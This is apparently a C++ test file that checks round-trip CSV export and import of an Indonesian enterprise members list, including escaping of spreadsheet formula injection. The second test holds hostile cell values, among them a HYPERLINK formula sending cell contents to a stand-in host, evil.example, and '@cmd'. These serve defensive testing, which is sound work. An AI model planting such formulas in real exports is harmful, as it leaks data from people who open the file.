#include <sentra/io/enterprise_export.hpp>

#include "catch.hpp"
#include "import_fixtures.hpp"

#include <sentra/io/document.hpp>

#include <algorithm>
#include <sstream>
#include <string>
#include <vector>

using namespace sentra;
using namespace sentra::test_import;
using io::enterprise_column;

TEST_CASE("a members list goes out to a spreadsheet and back unchanged", "[import]")
{
    auto const doc = io::read_document_file(std::string(SENTRA_TEST_DIR) +
                                            "/data/documents/cipayung.json")
                         .value()
                         .document;
    std::string const csv = io::write_enterprises_csv(doc.enterprises, &regions(), {.personal_data = true});
    CHECK(csv.rfind("\xEF\xBB\xBFID Usaha;Nama Usaha;NIB;Nama Pemilik;", 0) == 0);
    CHECK(csv.find("\r\n") != std::string::npos);
    auto cx = depok();
    cx.document = &doc;
    auto const back = import_text(csv, cx);
    CHECK(back.problems.empty());
    REQUIRE(back.rows.size() == doc.enterprises.size());
    for (std::size_t i = 0; i < back.rows.size(); ++i) {
        CHECK(back.rows[i].updates_existing);
        CHECK(back.rows[i].enterprise == doc.enterprises[i]);
    }
    // Without a document: the same enterprises, by their ids.
    auto const fresh = import_text(csv);
    REQUIRE(fresh.rows.size() == doc.enterprises.size());
    CHECK(fresh.rows[0].enterprise.id == doc.enterprises[0].id);

    // English headers, commas, no mark; personal data left out unless asked.
    enterprise e = doc.enterprises[0];
    e.name = "Konveksi \"Sampel\", Satu";
    e.address = "Jl. Satu\nBlok 2";
    e.owner = owner_contact{"Siti", nik_number::parse("3276074501850002").value(),
                            phone_number::parse("081234567890").value()};
    e.kbli = {kbli_subclass::parse("01111").value()};
    std::string const en = io::write_enterprises_csv(std::vector<enterprise>{e}, &regions(),
                                                     {.language = lang::en, .delimiter = ',',
                                                      .byte_order_mark = false});
    CHECK(en.rfind("Enterprise ID,Business Name,NIB,Address,District,Village,", 0) == 0);
    CHECK(en.find("\"Konveksi \"\"Sampel\"\", Satu\"") != std::string::npos);
    CHECK(en.find("\"Jl. Satu\nBlok 2\"") != std::string::npos);
    CHECK(en.find("Siti") == std::string::npos);
    CHECK(en.find("3276074501850002") == std::string::npos);
    CHECK(en.find(",'01111,") != std::string::npos); // a leading zero kept from the sheet
    auto const again = import_text(en);
    REQUIRE(again.rows.size() == 1);
    CHECK(again.rows[0].enterprise.name == e.name);
    CHECK(again.rows[0].enterprise.address == e.address);
    CHECK(again.rows[0].enterprise.kbli == e.kbli);
    std::string const with = io::write_enterprises_csv(std::vector<enterprise>{e}, nullptr,
                                                       {.personal_data = true});
    CHECK(with.find(";Siti;'3276074501850002;'+6281234567890;") != std::string::npos);
    CHECK(with.find("Kecamatan") == std::string::npos); // no gazetteer, no names
}

TEST_CASE("a members list sent to a spreadsheet runs no formula and reads back the same",
          "[import][formula]")
{
    auto const doc = io::read_document_file(std::string(SENTRA_TEST_DIR) +
                                            "/data/documents/cipayung.json")
                         .value()
                         .document;
    // Names and addresses a member (or anyone who fills in the members list) could write.
    std::vector<enterprise> list;
    std::string const hostile[] = {"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"klik\")",
                                   "+SUM(1+1)", "-2+3", "@cmd", "-=1 Konveksi",
                                   "\"=1+1\" Konveksi", "'=1+1 sudah ditandai", "'Rajut"};
    for (std::size_t i = 0; i < std::size(hostile); ++i) {
        enterprise e = doc.enterprises[i % doc.enterprises.size()];
        e.id = enterprise_id::parse("formula-" + std::to_string(i)).value();
        e.nib.reset();
        e.name = hostile[i];
        e.address = hostile[(i + 1) % std::size(hostile)];
        list.push_back(e);
    }
    for (char d : {';', ','}) {
        std::string const csv = io::write_enterprises_csv(
            list, &regions(), {.delimiter = d, .personal_data = true});
        // Every cell as a spreadsheet reads it: none starts a formula.
        report r;
        io::csv_reader rd(csv, "sheet.csv", d);
        std::vector<io::csv_field> fields;
        std::size_t cells = 0;
        while (rd.next(fields, r) != io::csv_status::end)
            for (auto const& f : fields) {
                CHECK_FALSE(io::starts_formula(f.text));
                ++cells;
            }
        CHECK(r.ok());
        CHECK(cells > list.size() * 10);
        // And back through the import: the same names and addresses.
        auto cx = depok();
        cx.document = &doc;
        auto const back = import_text(csv, cx);
        CHECK(back.problems.error_count() == 0);
        REQUIRE(back.rows.size() == list.size());
        for (std::size_t i = 0; i < list.size(); ++i) {
            CHECK(back.rows[i].enterprise.name == list[i].name);
            CHECK(back.rows[i].enterprise.address == list[i].address);
        }
    }
}
